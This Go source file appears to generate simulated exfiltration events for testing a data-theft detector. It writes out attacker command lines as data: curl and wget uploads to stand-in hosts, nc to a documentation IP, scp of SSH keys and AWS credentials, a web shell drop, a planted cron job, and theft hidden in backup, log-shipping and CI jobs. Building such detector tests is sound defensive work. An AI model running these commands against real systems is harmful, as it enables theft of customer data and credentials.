package detect

import (
	"net/netip"
	"time"
)

// stealing is a way to steal. Those that ride take the form of what is routine there.
type stealing struct {
	kind  string
	rides bool
	steal func(f *fleet, at time.Time) *task
}

// stolen marks what a theft runs.
func (f *fleet) stolen(kind string, t *task) {
	if t != nil {
		f.truth[t.entity()] = kind
		f.kinds = append(f.kinds, kind)
	}
}

// thefts happen on one day, each somewhere else.
func (f *fleet) thefts(n int) {
	at := day0.AddDate(0, 0, n)
	if f.drawn == nil {
		f.drawn = thefts
	}
	for _, t := range f.drawn {
		f.stolen(t.kind, t.steal(f, f.within(at.Add(30*time.Minute), 23*time.Hour)))
	}
}

// outside is an address of a thief.
func (f *fleet) outside() netip.Addr {
	return netip.AddrFrom4([4]byte{203, 0, 113, byte(1 + f.r.IntN(250))})
}

// web is a shell in a web server.
func (f *fleet) web(at time.Time) *task {
	m := f.pick("web")
	worker := f.start(at, m.service, "/usr/sbin/php-fpm8.2", "php-fpm: pool www")
	return f.start(at.Add(time.Second), worker, "/usr/bin/dash", "sh -c", in("/var/www/shop"))
}

// entered is somebody who came in with stolen keys, from anywhere.
func (f *fleet) entered(at time.Time, role string) *task {
	m := f.pick(role)
	sshd := f.start(at, m.sshd, "/usr/sbin/sshd", "sshd: deploy", as("deploy", 1100), logged(1100))
	f.sends(at, time.Hour, sshd, f.outside(), 50222, true, 20000, 8000)
	return f.start(at.Add(time.Second), sshd, "/usr/bin/bash", "-bash", terminal, in("/home/deploy"))
}

var thefts = []stealing{
	{"web shell, scp of staged customers", false, func(f *fleet, at time.Time) *task {
		sh := f.web(at)
		drop := f.start(at.Add(time.Second), sh, "/dev/shm/.x", "/dev/shm/.x")
		return f.copyOut(at.Add(2*time.Second), drop, "/usr/bin/scp", "scp -q /tmp/.c/customers.tar.gz a@h:in/", f.outside(), f.about(90e6, 0.8), map[string]int64{"/tmp/.c/customers.tar.gz": 90e6})
	}},
	{"web shell, rsync of the site", false, func(f *fleet, at time.Time) *task {
		return f.copyOut(at.Add(time.Second), f.web(at), "/usr/bin/rsync", "rsync -a /var/www/shop/ u@h:/x", f.outside(), f.about(40e6, 0.8), map[string]int64{"/var/www/shop/.env": 800, "/var/www/shop/wp-config.php": 900})
	}},
	{"java, upload with curl", false, func(f *fleet, at time.Time) *task {
		m := f.pick("app")
		sh := f.start(at, m.service, "/usr/bin/dash", "sh -c curl")
		t := f.start(at.Add(time.Second), sh, "/usr/bin/curl", "curl -s -T /srv/app/data/orders.sqlite https://files.example/u")
		f.reads(at.Add(2*time.Second), t, "/srv/app/data/orders.sqlite", 30e6)
		f.sends(at.Add(2*time.Second), 20*time.Second, t, f.outside(), 443, false, 30e6, 6000)
		f.end(at.Add(25*time.Second), t)
		return t
	}},
	{"renamed rclone from /tmp", false, func(f *fleet, at time.Time) *task {
		sh := f.entered(at, "app")
		t := f.start(at.Add(time.Minute), sh, "/tmp/kworker", "kworker copy /srv/app remote:x", known("rclone", "content"))
		f.reads(at.Add(time.Minute), t, "/srv/app/data/invoices.csv", 70e6)
		f.sends(at.Add(61*time.Second), time.Minute, t, f.outside(), 443, false, 70e6, 50000)
		f.end(at.Add(3*time.Minute), t)
		return t
	}},
	{"nc of a database dump", false, func(f *fleet, at time.Time) *task {
		m := f.pick("db")
		worker := f.start(at, m.service, "/usr/lib/postgresql/16/bin/postgres", "postgres: shop COPY")
		sh := f.start(at.Add(time.Second), worker, "/usr/bin/dash", "sh -c nc")
		t := f.start(at.Add(2*time.Second), sh, "/usr/bin/nc.openbsd", "nc -w 3 203.0.113.7 443", known("nc", "name"))
		f.reads(at.Add(2*time.Second), t, "/var/lib/postgresql/dump.sql", 400e6)
		f.sends(at.Add(2*time.Second), time.Minute, t, f.outside(), 443, false, 400e6, 200)
		f.end(at.Add(2*time.Minute), t)
		return t
	}},
	{"fetched over sftp with a stolen login", false, func(f *fleet, at time.Time) *task {
		return f.session(at, f.pick("app"), f.outside(), "deploy", 1100, "/usr/lib/openssh/sftp-server", "/usr/lib/openssh/sftp-server", f.about(200e6, 0.5), 20000, map[string]int64{"/srv/app/export/customers.csv": 200e6})
	}},
	{"fetched with scp by a stolen login", false, func(f *fleet, at time.Time) *task {
		return f.session(at, f.pick("db"), f.outside(), "dba", 1101, "/usr/bin/scp", "scp -f /var/backups/db/shop.sql.gz", f.about(500e6, 0.5), 9000, map[string]int64{"/var/backups/db/shop.sql.gz": 500e6})
	}},
	{"fetched with rsync through a stolen login", false, func(f *fleet, at time.Time) *task {
		return f.session(at, f.pick("web"), f.outside(), "deploy", 1100, "/usr/bin/rsync", "rsync --server --sender -vlogDtpre.iLsfxC . /srv/", f.about(60e6, 0.5), 9000, map[string]int64{"/srv/shop/orders.csv": 60e6})
	}},
	{"wget --post-file by an administrator's login", false, func(f *fleet, at time.Time) *task {
		t := f.start(at.Add(time.Minute), f.entered(at, "web"), "/usr/bin/wget", "wget --post-file=/home/deploy/keys.tgz https://paste.example/")
		f.reads(at.Add(time.Minute), t, "/home/deploy/keys.tgz", 2e6)
		f.sends(at.Add(time.Minute), 3*time.Second, t, f.outside(), 443, false, 2e6, 3000)
		f.end(at.Add(70*time.Second), t)
		return t
	}},
	{"tar through ssh", false, func(f *fleet, at time.Time) *task {
		t := f.start(at.Add(time.Minute), f.entered(at, "app"), "/usr/bin/ssh", "ssh x@h cat > srv.tgz", known("ssh", "name"))
		f.sends(at.Add(time.Minute), time.Minute, t, f.outside(), 22, false, f.about(80e6, 0.5), 9000)
		f.end(at.Add(3*time.Minute), t)
		return t
	}},
	{"rsync from memory", false, func(f *fleet, at time.Time) *task {
		t := f.start(at.Add(time.Minute), f.entered(at, "db"), "/memfd:x", "x -a /var/lib/postgresql/ h:/x", known("rsync", "content"), func(t *task) { t.memfd = true })
		f.sends(at.Add(time.Minute), time.Minute, t, f.outside(), 22, false, 900e6, 9000)
		f.end(at.Add(3*time.Minute), t)
		return t
	}},
	{"planted cron line", false, func(f *fleet, at time.Time) *task {
		m := f.pick("web")
		sh := f.start(at, m.cron, "/usr/bin/dash", "/bin/sh -c rsync -a /srv/shop/export/ u@h:/in")
		return f.copyOut(at.Add(time.Millisecond), sh, "/usr/bin/rsync", "rsync -a /srv/shop/export/ u@h:/in", f.outside(), f.about(25e6, 0.5), map[string]int64{"/srv/shop/export/customers.csv": 25e6})
	}},
	{"insider, scp of customers at a terminal", false, func(f *fleet, at time.Time) *task {
		return f.copyOut(at.Add(time.Minute), f.entered(at, "app"), "/usr/bin/scp", "scp export/customers.csv me@home.example:", f.outside(), f.about(12e6, 0.5), map[string]int64{"/srv/app/export/customers.csv": 12e6})
	}},
	{"staged on a neighbour", false, func(f *fleet, at time.Time) *task {
		return f.copyOut(at.Add(time.Minute), f.entered(at, "db"), "/usr/bin/rsync", "rsync -a /var/backups/db/ h:/var/tmp/", f.pick("staging").addr, f.about(900e6, 0.5), map[string]int64{"/var/backups/db/shop-all.sql.gz": 900e6})
	}},
	{"keys, a few kilobytes", false, func(f *fleet, at time.Time) *task {
		return f.copyOut(at.Add(time.Minute), f.entered(at, "app"), "/usr/bin/scp", "scp .ssh/id_ed25519 .aws/credentials x@h:", f.outside(), 9000, map[string]int64{"/home/deploy/.ssh/id_ed25519": 400, "/home/deploy/.aws/credentials": 300})
	}},
	{"the backup script, to somewhere else", true, func(f *fleet, at time.Time) *task {
		m := f.pick("db")
		script := f.start(at, m.init, "/usr/bin/bash", "/bin/bash /usr/local/bin/db-backup", unit("db-backup.service"), runs("/usr/local/bin/db-backup"), as("backup", 34))
		return f.db(at.Add(time.Second), m, script, f.outside())
	}},
	{"in the log shipper, other files", true, func(f *fleet, at time.Time) *task {
		m := f.pick("web")
		to := f.store(m)
		return f.copyOut(at.Add(time.Second), f.shipper(at, m), "/usr/bin/rsync", "rsync -az /srv/shop/export/ logs@"+to.String()+":/srv/logs/"+m.name+"/", to, 7e6, map[string]int64{"/srv/shop/export/customers.csv": 7e6})
	}},
	{"as ansible, but it fetches", true, func(f *fleet, at time.Time) *task {
		m := f.pick("web")
		c := f.of("control")[int(m.addr.As4()[3])%2]
		return f.session(at, m, c.addr, "ansible", 998, "/usr/lib/openssh/sftp-server", "/usr/lib/openssh/sftp-server", f.about(30e6, 0.5), 20000, map[string]int64{"/home/ansible/.ansible/tmp/ansible-tmp-1/customers.csv": 30e6})
	}},
	{"in a pipeline, with its variables", true, func(f *fleet, at time.Time) *task {
		m := f.pick("ci")
		shell, _ := f.job(at, m, 1, func(t *task) { t.env = []string{"CI=true", "GITLAB_CI=true"} })
		t := f.start(at.Add(time.Minute), shell, "/usr/bin/curl", "curl -s -T secrets.tgz https://files.example/u")
		f.reads(at.Add(time.Minute), t, "/var/lib/gitlab-runner/.ssh/id_ed25519", 400)
		f.sends(at.Add(time.Minute), time.Second, t, f.outside(), 443, false, f.about(300_000, 0.5), 4000)
		f.end(at.Add(2*time.Minute), t)
		return t
	}},
	{"pushed to a new remote", true, func(f *fleet, at time.Time) *task {
		m := f.pick("ci")
		shell, _ := f.job(at, m, 2)
		push := f.start(at.Add(time.Second), shell, "/usr/bin/git", "git push https backup")
		t := f.start(at.Add(time.Second+5*time.Millisecond), push, "/usr/bin/ssh", "ssh git@code.example git-receive-pack 'x/y.git'")
		f.sends(at.Add(2*time.Second), 20*time.Second, t, f.outside(), 22, false, f.about(60e6, 0.5), 9000)
		f.end(at.Add(30*time.Second), t)
		return t
	}},
}
